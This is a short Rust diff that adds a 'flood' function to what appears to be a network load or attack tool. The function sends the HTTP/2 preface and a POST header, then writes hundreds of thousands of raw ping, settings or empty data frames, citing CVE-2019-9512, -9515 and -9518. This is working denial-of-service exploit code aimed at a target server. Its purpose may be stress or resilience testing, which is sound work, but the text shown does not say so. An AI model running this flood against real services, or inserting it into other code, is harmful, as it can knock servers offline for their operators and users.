@@ -165,3 +165,21 @@ pub async fn take_back(worker: usize, target: Target) -> std::io::Result<()> {
     }
     Ok(())
 }
+
+/// Frames that ask for an answer and carry nothing (CVE-2019-9512, -9515, -9518), whose answers are never read.
+pub async fn flood(worker: usize, target: Target) -> std::io::Result<()> {
+    // A ping, settings, and a piece of a body without bytes.
+    const FRAMES: [&[u8]; 3] =
+        [b"\0\0\x08\x06\0\0\0\0\0pingpong", b"\0\0\0\x04\0\0\0\0\0", b"\0\0\0\0\0\0\0\0\x01"];
+    let mut stream = connect(worker, target.address).await?;
+    stream.write_all(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0").await?;
+    let path = format!("/v1/topics/{}/records", target.topic);
+    let fields =
+        [(":method", "POST"), (":scheme", "http"), (":authority", "localhost"), (":path", path.as_str())];
+    stream.write_all(&frames::head(1, &fields, false)).await?;
+    let bytes = FRAMES[worker % FRAMES.len()].repeat(500);
+    for _ in 0..100_000 {
+        stream.write_all(&bytes).await?;
+    }
+    Ok(())
+}
